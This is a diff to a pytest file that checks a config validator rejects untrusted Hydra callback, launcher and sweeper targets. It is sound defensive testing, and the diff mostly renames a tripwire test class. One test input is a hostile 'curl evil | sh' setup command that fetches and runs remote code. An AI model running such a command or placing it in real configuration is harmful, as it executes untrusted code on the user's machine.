@@ -120,14 +120,16 @@ def test_a_callback_has_to_be_allowed_from_python(
     folder: Callable[[dict[str, str]], Path], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(safe, "_extra", {})
-    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tripwire.Fire, verbose: true}\n"})
+    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, verbose: true}\n"})
     with pytest.raises(
         ConfigError, match=r"hydra\.callbacks\.x\._target_ should be allowed by fusionkit\.config\.allow"
     ):
         compose(untrusted, "hydra/callbacks=mine")
-    config.allow("tripwire.Fire")
+    config.allow("tests.tripwire.Fire")
     compose(untrusted, "hydra/callbacks=mine")
-    nested = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tripwire.Fire, y: {_target_: tripwire.fire}}\n"})
+    nested = folder(
+        {"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, y: {_target_: tests.tripwire.fire}}\n"}
+    )
     with pytest.raises(ConfigError, match=r"hydra\.callbacks\.x\.y\._target_ should not be in the hydra node"):
         compose(nested, "hydra/callbacks=mine")
 
@@ -189,7 +191,7 @@ def test_a_launcher_keeps_its_defaults_whatever_they_say(monkeypatch: pytest.Mon
 @pytest.mark.parametrize(
     ("text", "message"),
     [
-        ("_target_: tripwire.Fire\n", "hydra.launcher._target_ should be one of hydra._internal.core_plugins."),
+        ("_target_: tests.tripwire.Fire\n", "hydra.launcher._target_ should be one of hydra._internal.core_plugins."),
         (
             LAUNCHER + "setup: ['curl evil | sh']\n",
             "hydra.launcher.setup[0] should be the plugin's default or stand on",
@@ -236,12 +238,12 @@ SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nma
     ("text", "message"),
     [
         (
-            SWEEPER + "custom_search_space: tripwire.fire\n",
+            SWEEPER + "custom_search_space: tests.tripwire.fire\n",
             "hydra.sweeper.custom_search_space should be empty, because",
         ),
         (SWEEPER + "storage: sqlite:////tmp/x\n", "hydra.sweeper.storage should be the plugin's default or stand on"),
         (
-            SWEEPER + "sampler: {_target_: tripwire.Fire}\n",
+            SWEEPER + "sampler: {_target_: tests.tripwire.Fire}\n",
             "hydra.sweeper.sampler._target_ should be a class of optuna",
         ),
         (
@@ -249,7 +251,7 @@ SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nma
             "hydra.sweeper.sampler._target_ should be a class of optuna.samplers",
         ),
         (
-            SWEEPER + "x: {y: [{_target_: tripwire.Fire}]}\n",
+            SWEEPER + "x: {y: [{_target_: tests.tripwire.Fire}]}\n",
             "hydra.sweeper.x.y[0]._target_ should not be in the hydra node",
         ),
     ],
@@ -270,7 +272,7 @@ def test_what_is_allowed_here_is_not_allowed_in_workers(
     untrusted = folder({"hydra/launcher/mine.yaml": "_target_: hydra_plugins.x.XLauncher\n"})
     node = {"_target_": "hydra_plugins.x.XLauncher"}
     hydra_node._check_plugin(node, "launcher", [])
-    config.allow("tripwire.Fire")
+    config.allow("tests.tripwire.Fire")
     with pytest.raises(
         ConfigError, match=r"should be the basic launcher, because what fusionkit\.config\.allow permits"
     ):
